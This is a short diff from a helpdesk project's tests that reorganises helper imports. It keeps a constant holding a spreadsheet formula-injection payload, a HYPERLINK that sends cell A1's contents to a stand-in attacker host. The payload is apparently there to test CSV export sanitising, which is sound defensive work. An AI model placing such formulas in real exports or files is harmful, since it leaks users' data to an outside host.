@@ -16,7 +16,8 @@ from helpdesk.exports.csvfile import neutralise
 from helpdesk.realtime.log import event_sessions
 from helpdesk.reports import tasks
 from helpdesk.reports.calendar import ReportCalendar
-from tests.conftest import Staff, inbound_body, post_inbound
+from tests.support.inbound import inbound_body, post_inbound
+from tests.support.staff import Staff
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"見る")'
 
